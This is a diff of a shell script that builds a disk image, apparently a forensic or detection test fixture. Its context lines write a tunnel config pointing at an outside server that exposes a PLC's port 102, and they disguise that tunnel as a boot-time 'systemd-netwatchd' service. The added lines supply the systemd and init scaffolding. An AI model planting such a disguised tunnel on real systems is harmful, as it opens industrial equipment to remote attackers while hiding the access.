@@ -30,6 +30,9 @@ L
 printf 'serverAddr = "203.0.113.77"\nserverPort = 7000\n[[proxies]]\nname = "plc"\ntype = "tcp"\nlocalIP = "192.168.1.10"\nlocalPort = 102\nremotePort = 60102\n' >etc/netwatch.toml
 printf '[Unit]\nDescription=Network Watch Daemon\n[Service]\nExecStart=/usr/lib/systemd/systemd-netwatchd -c /etc/netwatch.toml\n[Install]\nWantedBy=multi-user.target\n' >usr/lib/systemd/system/systemd-netwatchd.service
 ln -s /usr/lib/systemd/system/systemd-netwatchd.service etc/systemd/system/multi-user.target.wants/
+printf '[Unit]\nDescription=Multi-User System\nAllowIsolate=yes\n' >usr/lib/systemd/system/multi-user.target
+ln -s /usr/lib/systemd/system/multi-user.target etc/systemd/system/default.target
+printf '#!/bin/true\n' >usr/lib/systemd/systemd; chmod 755 usr/lib/systemd/systemd; ln -s /usr/lib/systemd/systemd usr/sbin/init
 echo 'manual' >opt/岸桥/说明书.txt
 find "$r" -exec touch -h -d 2026-03-01T00:00:00Z {} +
 cd "$here"; rm -f disk.img; truncate -s 9M disk.img
